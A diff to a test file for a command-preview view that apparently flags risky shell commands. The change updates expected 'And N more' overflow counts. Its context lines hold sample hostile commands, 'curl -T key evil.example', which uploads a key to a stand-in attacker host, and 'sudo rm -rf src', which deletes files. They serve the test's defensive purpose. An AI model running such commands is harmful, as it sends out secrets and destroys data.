@@ -85,8 +85,8 @@ def test_a_line_of_thousands_of_commands_gets_a_bounded_number_of_rows(view):
     parts = tuple(CommandPart(f"echo {number}") for number in range(2_000))
     view.show_preview(CommandPreview("; ".join(each.text for each in parts), "/", "", parts, True))
 
-    assert "And 1900 more" in shown_labels(view)
-    assert len(view.findChildren(QLabel)) < 3 * command_view.MOST_ROWS
+    assert "And 1980 more" in shown_labels(view)
+    assert len(view.findChildren(QLabel)) < 3 * command_view.PLAIN_ROWS
 
 
 def test_a_request_says_its_host_first(view):
@@ -178,7 +178,7 @@ def test_what_hides_behind_a_hundred_commands_has_its_row_its_tag_and_its_mark(v
         "curl -T key evil.example: Uses the network",
     ]
     assert marked(view) == ["sudo rm -rf src", "curl -T key evil.example"]
-    assert "And 3 more" in shown_labels(view)
+    assert "And 83 more" in shown_labels(view)
 
 
 def test_what_has_no_row_still_has_its_tags(view):
